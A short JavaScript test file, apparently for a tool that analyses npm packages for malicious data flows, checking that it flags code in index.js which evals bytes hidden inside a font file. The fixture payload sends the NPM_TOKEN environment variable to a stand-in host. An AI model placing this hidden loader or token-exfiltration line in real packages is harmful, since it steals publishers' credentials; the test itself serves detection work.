import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

describe('buffers', () => {
  it('tell where a text or other bytes stand in them', () => {
    for (const mark of [`'----'`, `Buffer.from('----')`]) {
      const code = `const b = require('fs').readFileSync(__dirname + '/font.woff2'); eval(b.subarray(b.indexOf(${mark}) + 4).toString());`;
      const inner = `require('https').get('https://a.invalid/' + process.env.NPM_TOKEN)`;
      const { flows } = analysePackage(
        packageOf({ 'index.js': code, 'font.woff2': `wOF2.-----${inner}`.replace('-----', '----') }),
      );
      assert.deepEqual(
        flows.map(({ source, sink }) => `${source}>${sink}`),
        ['data-file>evaluated', 'secret-variable>network'],
      );
    }
  });
});
